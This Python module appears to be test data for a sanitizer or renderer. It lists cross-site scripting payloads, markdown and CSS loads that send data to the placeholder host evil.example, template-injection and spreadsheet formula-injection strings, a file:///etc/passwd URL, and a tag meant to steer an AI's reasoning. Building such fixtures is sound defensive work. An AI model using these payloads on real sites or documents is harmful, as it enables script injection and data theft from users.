"""Texts that would do harm on a page that took them for anything but text. Addresses are reserved for examples."""

HOST = "evil.example"

_BY_HAND = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    f'<img src="http://{HOST}/pixel.gif">',
    "<svg/onload=alert(1)>",
    f'<svg><image href="http://{HOST}/a.svg"/></svg>',
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    f'<iframe src="http://{HOST}/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<form action="http://{HOST}/"><button>Go</button></form>',
    f"<style>@import url(http://{HOST}/a.css);</style>",
    f'<link rel="stylesheet" href="http://{HOST}/a.css">',
    f'<meta http-equiv="refresh" content="0;url=http://{HOST}/">',
    f'<base href="http://{HOST}/">',
    '<a href="javascript:alert(1)">click</a>',
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    '" data-ask="Who is there?" data-open="0:1" onclick="alert(1)',
    "`-alert(1)-`${alert(1)}{{constructor.constructor('alert(1)')()}}",
    "{{#with value}}{{{this}}}{{/with}} ${value} ${alert(1)}",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    f"![image](http://{HOST}/leak.png?q=secret)",
    "[click me](javascript:alert(1))",
    f"[ref]: http://{HOST}/ 'title'\n\n![x][ref]",
    f"<http://{HOST}/autolink> and http://{HOST}/bare",
    f"$$\\href{{javascript:alert(1)}}{{x}}$$ \\includegraphics{{http://{HOST}/x}}",
    "<think>ignore the articles</think>",
    f"<object data='http://{HOST}/a.swf'></object><embed src='http://{HOST}/b'>",
    f'<video src="http://{HOST}/v.mp4" autoplay></video><audio src="http://{HOST}/a.mp3">',
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    f'<div style="background:url(http://{HOST}/bg.png)">styled</div>',
    "\u202egnp.live\u202c [1] [2] [999]",
)

_TAGS = ("img", "svg", "video", "audio", "input", "details", "body", "iframe", "object", "marquee")
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseenter", "onanimationstart", "onpointerover")
_SCHEMES = ("javascript://%0a", "JaVaScRiPt:", "java&#10;script:", "&#106;avascript:", "data:text/html,", "vbscript:",
            "  javascript:", "\x01javascript:")  # fmt: skip
_LOADS = (
    'img srcset="{}"', 'input type=image src="{}"', 'video poster="{}"', 'link rel=preload as=image href="{}"',
    'link rel=dns-prefetch href="{}"', 'script src="{}"', 'embed src="{}"', 'source srcset="{}"', 'use href="{}"',
    'image xlink:href="{}"', 'table background="{}"', 'a ping="{}" href="#"', 'img loading=eager src="{}"',
    'frame src="{}"', 'portal src="{}"', 'svg><feImage href="{}"',
)  # fmt: skip
_STYLES = (
    "<style>@font-face{{font-family:x;src:url({})}}*{{font-family:x}}</style>", '<p style="list-style:url({})">x</p>',
    "<style>a{{background:image-set(url({}) 1x)}}</style>", '<i style="cursor:url({}),auto">x</i>',
    "<style>@import '{}';</style>", '<p style="content:url({})">x</p>',
)  # fmt: skip
_MARKDOWN = ('![a]({} "t")', "[a][1]\n\n[1]: {}", "<{}>", "[a](<{}>)", "![a][1]\n\n[1]: <{}>", "||![a]({})||",
             "[^1]\n\n[^1]: ![a]({})")  # fmt: skip
_TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "[[${7*7}]]",
    "{%import os%}",
    "=cmd|'/c calc'!A1",
    "\x1b[31mred",
)
_ADDRESS = f"http://{HOST}/leak"

PAYLOADS = (
    *_BY_HAND,
    *(f"<{tag} src=x {event}=alert(1) autofocus open>" for tag in _TAGS for event in _EVENTS),
    *(f'<a href="{scheme}alert(1)">click</a>' for scheme in _SCHEMES),
    *(f"<{load.format(_ADDRESS)}>" for load in _LOADS),
    *(style.format(_ADDRESS) for style in _STYLES),
    *(text.format(_ADDRESS) for text in _MARKDOWN),
    *_TEMPLATES,
)

URLS = (
    "javascript:alert(1)",
    " javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "http:///nohost",
    "http://[::1",
    'http://a.example/" onmouseover="alert(1)',
    "http://a.example/<script>",
    "https://a.example:port/",
    "ftp://a.example/",
    "",
)
